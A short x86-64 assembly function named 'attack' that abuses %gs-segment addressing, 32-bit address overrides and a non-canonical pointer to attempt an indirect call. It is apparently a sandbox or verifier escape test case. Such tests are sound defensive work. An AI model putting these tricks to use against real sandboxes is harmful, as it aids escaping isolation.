function attack
    mov $0x8000000000000000,%rdi
    mov %rdi,%rbp
    mov %rdi,%rbx
    mov %gs:(%edi),%r11d
    add $0x05e1f00d,%r11d
    jne 1f
    mov %edi,%r11d
    addr32 add %gs:0x10008,%r11
    call *%r11
1:  ud2
